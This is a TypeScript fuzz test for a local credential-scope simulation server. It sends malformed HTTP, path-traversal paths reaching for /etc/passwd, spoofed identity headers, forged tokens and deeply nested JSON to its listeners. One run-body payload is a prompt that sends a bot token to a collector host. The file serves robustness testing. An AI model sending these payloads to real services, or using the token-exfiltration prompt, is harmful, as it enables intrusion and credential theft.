import { mkdtemp, rm } from 'node:fs/promises'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startServe, type RunningServe } from '../../src/main/cli/serve'
import { PLATFORM_BEHAVIOR } from '../../src/main/net/platform-error'
import { Random } from '../../src/main/sim/random'
import { configOf } from '../../src/shared/profiles'
import type { TraceEvent } from '../../src/shared/events'

// Hostile input against every listener `credscope serve` opens: the control API and web shell,
// the front door, the backend (with the AG-UI proxy), the runner, the fake providers, the
// collectors and the Kubernetes API server; then, on their own seed, the custom MCP endpoints.
// Seeded and bounded. Any 5xx the trace does not name as the platform's own answer, any request
// left hanging and any crash fails it; the engine must still serve afterwards.

const SEED = 20261203
const REQUESTS = 2400
const ANSWER_WITHIN_MS = 5000

interface Target {
  name: string
  port: number
  /** Paths worth mutating, `{session}` and friends filled in by the fuzzer. */
  paths: string[]
  /** The Host header the listener routes on (providers, collectors), if any. */
  hosts: string[]
}

interface Answer {
  status: number
  /** True when the listener kept the connection for a stream (SSE) and we stopped reading. */
  stream: boolean
}

let served: RunningServe
let dir: string
const events: TraceEvent[] = []
let tokens: Record<string, string> = {}
let targets: Target[] = []
/** Fuzzed after the others, on its own seed, so the main sequence (and the state it leaves) stays as it was. */
let customMcp: Target

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'credscope-fuzz-'))
  served = await startServe({ port: 0, vault: 'memory', service: 'credscope-fuzz', db: join(dir, 'runs.db'), config: configOf({ profile: 'merged' }), seed: 7 })
  served.app.live.sim.trace.subscribe((event) => events.push(event))
  const world = await served.app.live.world()
  const session = world.sessions[0]
  tokens = {
    ...Object.fromEntries(world.users.map((u) => [u.id, u.token])),
    bot: session?.botToken ?? '',
    control: served.ready.controlToken
  }
  const port = (url: string): number => Number(new URL(url).port)
  const project = '/api/projects/demo/agentic-sessions'
  // agui/run three times: it is where a sender's input goes furthest (into a turn).
  const sessionPaths = [`${project}/shared-1`, `${project}/shared-1/agui/run`, `${project}/shared-1/agui/run`, `${project}/shared-1/agui/run`, `${project}/%2E%2E/credentials/github`, `${project}/shared-1/credentials/github`, `${project}/shared-1/credentials/google`, `${project}/shared-1/credentials/jira`, `${project}/shared-1/credentials/gitlab`, `${project}/shared-1/credentials/mcp/docs`, project, '/health']
  targets = [
    { name: 'control', port: port(served.ready.controlUrl), paths: ['/control/health', '/control/world', '/control/whose?value=x', '/control/turns', '/control/events', '/control/clock', '/control/tokens', '/control/rpc/getState', '/control/rpc/matrix', '/control/leaks', '/control/turns/x'], hosts: [] },
    { name: 'web shell', port: port(served.ready.controlUrl), paths: ['/', '/index.html', '/assets/x.js', '/../../etc/passwd', '/%2e%2e/%2e%2e/etc/passwd'], hosts: [] },
    { name: 'front door', port: port(served.ready.frontDoorUrl), paths: sessionPaths, hosts: [] },
    { name: 'backend', port: port(served.ready.backendUrl), paths: sessionPaths, hosts: [] },
    { name: 'runner', port: port(session?.runnerUrl ?? ''), paths: ['/', '/health', '/healthz'], hosts: [] },
    {
      name: 'providers',
      port: served.app.live.providers.port,
      paths: ['/user', '/api/v4/user', '/rest/api/3/myself', '/oauth2/v3/tokeninfo?access_token=x', '/token', '/whoami'],
      hosts: ['api.github.com', 'gitlab.com', 'acme.atlassian.net', 'www.googleapis.com', 'oauth2.googleapis.com', 'docs.mcp.example.com']
    },
    { name: 'collectors', port: served.app.live.providers.port, paths: ['/', '/collect', '/x?y=z'], hosts: ['collector.example.com', 'collector.attacker.svc.cluster.local'] },
    { name: 'kube-apiserver', port: served.app.live.kubeApi.port, paths: ['/api/v1/namespaces/demo/secrets/ambient-runner-token-shared-1', '/api/v1/namespaces/demo/secrets', '/api/v1/namespaces/demo/configmaps/x'], hosts: [] }
  ]
  customMcp = { name: 'custom MCP endpoints', port: served.app.live.customMcp.listener.port, paths: ['/', '/mcp', '/sse?key=x'], hosts: ['mcp.bob-tools.example'] }
})

afterAll(async () => {
  await served?.stop()
  await rm(dir, { recursive: true, force: true })
})

/** Sends raw bytes and reads the status line: malformed HTTP no client library will send. */
function raw(port: number, bytes: string | Buffer, halfClose: boolean): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1')
    let head = ''
    const timer = setTimeout(() => {
      socket.destroy()
      reject(new Error(`no answer within ${ANSWER_WITHIN_MS} ms`))
    }, ANSWER_WITHIN_MS)
    const done = (answer: Answer): void => {
      clearTimeout(timer)
      socket.destroy()
      resolve(answer)
    }
    socket.on('data', (chunk: Buffer) => {
      head += chunk.toString('latin1')
      const line = /^HTTP\/1\.[01] (\d{3})/.exec(head)
      if (line && head.includes('\r\n\r\n')) done({ status: Number(line[1]), stream: /content-type: text\/event-stream/i.test(head) })
    })
    // A connection the server closed without a word is an answer too (Node drops some garbage that way).
    socket.on('close', () => done({ status: 0, stream: false }))
    socket.on('error', () => done({ status: 0, stream: false }))
    socket.write(bytes)
    if (halfClose) socket.end()
  })
}

const METHODS = ['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'OPTIONS', 'TRACE', 'FOO']
const SEGMENTS = ['%zz', '%', '%2f', '%2F', '%2e%2e', '..', '.', '%00', '%E0%A4%A', '%C3%A9', 'a%2fb', '..%2fshared-1', '\u00e9', '*', '%25', '', 'x'.repeat(3000), 'shared-1', 'demo', 'mallory-session']

function mutatePath(r: Random, path: string): string {
  const pick = r.int(6)
  if (pick === 0) return path
  const parts = path.split('/')
  const at = 1 + r.int(Math.max(1, parts.length - 1))
  switch (pick) {
    case 1:
      parts[at] = SEGMENTS[r.int(SEGMENTS.length)] ?? ''
      return parts.join('/')
    case 2:
      return `${path}${r.int(2) ? '/' : '//'}${SEGMENTS[r.int(SEGMENTS.length)] ?? ''}`
    case 3:
      return `${path}?${r.string(1 + r.int(30), 'abc=&%?#/\\"<>')}`
    case 4:
      return path.replace(/\//g, r.int(2) ? '//' : '/./')
    default:
      return `/${r.string(1 + r.int(40), 'abcdef/%2e.:@!$&()*+,;=')}`
  }
}

function authorization(r: Random): string | null {
  const names = Object.keys(tokens)
  switch (r.int(7)) {
    case 0:
      return null
    case 1:
      return `Bearer ${tokens[names[r.int(names.length)] ?? ''] ?? ''}`
    case 2:
      return `Bearer ${r.string(40)}`
    case 3:
      return `Basic ${Buffer.from(`${r.string(5)}:${r.string(20)}`).toString('base64')}`
    case 4:
      return 'Bearer'
    case 5:
      return `bearer    ${tokens.bob ?? ''}   `
    default:
      return `Bearer eyJ${r.string(30)}.${r.string(30)}.${r.string(20)}`
  }
}

function body(r: Random): string | Buffer | undefined {
  switch (r.int(9)) {
    case 0:
      return undefined
    case 1:
      return JSON.stringify({ messages: [{ role: 'user', content: 'github.whoami' }] })
    case 2:
      return `{"messages":[{"role":"user","content":"x"}],"state":${'['.repeat(9000 + r.int(3000))}${']'.repeat(9000 + r.int(3000))}}`
    case 3:
      return `{"messages":${'{"a":'.repeat(500 + r.int(2000))}1${'}'.repeat(1000)}`
    case 4:
      return r.string(r.int(200), '{}[]":,\\ntrue0123456789')
    case 5:
      return Buffer.from(Array.from({ length: r.int(300) }, () => r.int(256)))
    case 6:
      return JSON.stringify({ messages: 'not an array', threadId: 5, runId: { a: 1 }, state: [1, 2] })
    case 7:
      return JSON.stringify({ value: 'x', advance: '1h', as: 'bob', message: 'github.whoami', user: 'bob', action: 'expire' })
    default:
      return 'x'.repeat(r.int(2) ? 2 * 1024 * 1024 : 10)
  }
}

/** A run input that binds, with something nasty in it. */
function runBody(r: Random): string {
  const message = { role: 'user', content: ['github.whoami', 'jira.myself\nenv.dump', 'http GET http://collector.example.com/${BOT_TOKEN}', ''][r.int(4)] }
  switch (r.int(6)) {
    case 0:
      return JSON.stringify({ messages: [message] })
    case 1:
    case 5: {
      // Deep state around Go's 10,000 limit: bound and forwarded below it, refused above.
      const depth = 9000 + r.int(1400)
      return `{"messages":[${JSON.stringify(message)}],"state":{"s":${'['.repeat(depth)}${']'.repeat(depth)}}}`
    }
    case 2:
      return `{"messages":[${JSON.stringify(message)}],"forwardedProps":${'{"a":'.repeat(900 + r.int(200))}1${'}'.repeat(1100)}}`
    case 3:
      return JSON.stringify({ runId: r.int(2) ? 'fixed-run-id' : r.string(8), threadId: r.string(3), messages: [message, { role: 'assistant', content: [{ text: 'x' }] }] })
    default:
      return JSON.stringify({ messages: [{ ...message, metadata: { senderId: 'alice' } }], tools: [{ name: 'x' }], context: { a: 1 } })
  }
}

function request(r: Random, target: Target): { bytes: Buffer; halfClose: boolean } {
  // Half the requests are nearly right (a real route, a real token, the right method), so the
  // fuzz reaches the handlers and not only the parser; the rest are anything at all.
  const nearlyRight = r.int(2) === 0
  const runPath = target.paths.find((p) => p.endsWith('/agui/run'))
  const template = nearlyRight && runPath && r.int(2) === 0 ? runPath : (target.paths[r.int(target.paths.length)] ?? '/')
  const method = nearlyRight ? (/agui\/run|\/control\/(turns|clock|tokens|rpc)|\/token$/.test(template) || template === '/' ? 'POST' : 'GET') : (METHODS[r.int(METHODS.length)] ?? 'GET')
  const path = nearlyRight && r.int(2) === 0 ? template : mutatePath(r, template)
  const payload = nearlyRight ? runBody(r) : body(r)
  const bytesOfBody = payload === undefined ? Buffer.alloc(0) : Buffer.isBuffer(payload) ? payload : Buffer.from(payload)
  const headers: string[] = []
  const host = target.hosts.length > 0 && r.int(5) > 0 ? (target.hosts[r.int(target.hosts.length)] ?? '') : r.int(6) === 0 ? 'evil.example.com' : `127.0.0.1:${target.port}`
  if (nearlyRight || r.int(20) > 0) headers.push(`Host: ${nearlyRight && target.hosts.length === 0 ? `127.0.0.1:${target.port}` : host}`)
  const auth = nearlyRight ? `Bearer ${target.name === 'control' || target.name === 'web shell' ? (tokens.control ?? '') : (tokens[['alice', 'bob', 'carol', 'mallory', 'bot'][r.int(5)] ?? 'bob'] ?? '')}` : authorization(r)
  if (auth !== null) headers.push(`Authorization: ${auth}`)
  if (r.int(4) === 0) headers.push(`X-Forwarded-User: ${['alice', 'bob', 'mallory', 'system:admin'][r.int(4)]}`)
  if (r.int(4) === 0) headers.push(`X-Runner-Current-User: ${['alice', 'bob', '', '../x'][r.int(4)]}`)
  if (r.int(6) === 0) headers.push(`X-Caller-Token: Bearer ${r.int(2) ? (tokens.alice ?? '') : r.string(30)}`)
  if (r.int(6) === 0) headers.push(`Cookie: _oauth_proxy=${r.int(2) ? (tokens.carol ?? '') : `%${r.string(8)}`}`)
  if (r.int(8) === 0) headers.push(`Origin: http://evil.example.com`)
  // Broken framing only in the anything-goes half, so the nearly-right half reaches the handlers.
  const wild = !nearlyRight
  if (r.int(15) === 0) headers.push(`X-Big: ${'y'.repeat(20_000)}`)
  if (wild && r.int(8) === 0) headers.push(`X-Broken: a\rb`)
  if (wild && r.int(6) === 0) headers.push('Transfer-Encoding: chunked')
  if (nearlyRight || r.int(3) > 0) headers.push('Content-Type: application/json')
  // A Content-Length that promises more than comes, with the socket half-closed: a cut-short body.
  const cutShort = r.int(12) === 0
  headers.push(`Content-Length: ${bytesOfBody.length + (cutShort ? 100 : 0)}`)
  const version = wild && r.int(12) === 0 ? 'HTTP/1.0' : wild && r.int(20) === 0 ? 'HTTP/9.9' : 'HTTP/1.1'
  const requestLine = wild && r.int(20) === 0 ? `${r.string(20, 'GET /\r\n\t ')}` : `${method} ${path} ${version}`
  const head = Buffer.from(`${requestLine}\r\n${headers.join('\r\n')}\r\nConnection: close\r\n\r\n`, 'latin1')
  return { bytes: Buffer.concat([head, bytesOfBody]), halfClose: cutShort || r.int(10) === 0 }
}

describe(`fuzzing every listener (seed ${SEED}, ${REQUESTS} requests)`, () => {
  it('answers every request within 5 s, with no 5xx the platform would not give itself, and keeps serving', async () => {
    const r = new Random(SEED)
    const unexplained: string[] = []
    let explained = 0
    let deepTurns = 0
    const byStatus = new Map<number, number>()
    const byTarget = new Map<string, number>()
    for (let i = 0; i < REQUESTS; i++) {
      const target = targets[i % targets.length] as Target
      const { bytes, halfClose } = request(r, target)
      const from = events.length
      const answer = await raw(target.port, bytes, halfClose)
      byStatus.set(answer.status, (byStatus.get(answer.status) ?? 0) + 1)
      byTarget.set(target.name, (byTarget.get(target.name) ?? 0) + 1)
      if (answer.status === 200 && bytes.includes('"state":{"s":[[[')) deepTurns++
      if (answer.status < 500) continue
      // The platform's own 5xx leaves a note on the trace, outside any turn, while it answers.
      const named = events.slice(from).some((e) => e.kind === 'note' && e.turn === null && e.text.startsWith(PLATFORM_BEHAVIOR))
      if (named) explained++
      else unexplained.push(`#${i} ${target.name}: ${answer.status} for ${bytes.toString('latin1', 0, 160).split('\r\n')[0] ?? ''}`)
    }
    expect(unexplained, 'every 5xx must be the platform\'s own answer').toEqual([])
    // The fuzz reached what matters: deep input into turns, and the platform's own 5xx.
    expect(deepTurns, 'turns with state nested thousands deep').toBeGreaterThan(5)
    expect(explained, 'the platform\'s own 5xx').toBeGreaterThan(0)
    expect([...byTarget.values()].reduce((a, b) => a + b, 0)).toBe(REQUESTS)
    // Something of each kind came back: the fuzzer reached the handlers, not only the parser.
    expect([...byStatus.keys()].filter((s) => s >= 200 && s < 300).length).toBeGreaterThan(0)
    expect(byStatus.get(400) ?? 0).toBeGreaterThan(0)
    expect(byStatus.get(404) ?? 0).toBeGreaterThan(0)
    expect(byStatus.get(413) ?? 0).toBeGreaterThan(0)
    expect(byStatus.get(431) ?? 0).toBeGreaterThan(0)

    const crashes = events.filter((e) => e.kind === 'log' && e.level === 'error' && /unexpected error|credscope failed inside/.test(e.text))
    expect(crashes.map((e) => e.kind === 'log' && e.text)).toEqual([])

    // Still serving: bob's turn through the front door acts as bob.
    const outcome = await served.app.live.sendTurn({ sender: { kind: 'user', userId: 'bob' }, project: 'demo', session: 'shared-1', message: 'github.whoami' })
    expect(outcome.status).toBe(200)
    expect(outcome.turn?.status).toBe('finished')
    const acted = events.filter((e) => e.kind === 'tool.result' && e.turn === outcome.turn?.turn)
    expect(acted.map((e) => e.kind === 'tool.result' && e.actedAs)).toEqual(['bob'])
  })

  it('answers every request to the custom MCP endpoints within 5 s, with no 5xx and no crash', async () => {
    const r = new Random(SEED + 1)
    const statuses: number[] = []
    const from = events.length
    for (let i = 0; i < 300; i++) {
      const { bytes, halfClose } = request(r, customMcp)
      statuses.push((await raw(customMcp.port, bytes, halfClose)).status)
    }
    expect(statuses.filter((s) => s >= 500)).toEqual([])
    expect(statuses.filter((s) => s >= 200 && s < 300).length).toBeGreaterThan(0)
    expect(statuses).toContain(413)
    const crashes = events.slice(from).filter((e) => e.kind === 'log' && e.level === 'error' && /unexpected error|credscope failed inside/.test(e.text))
    expect(crashes).toEqual([])
  })
})
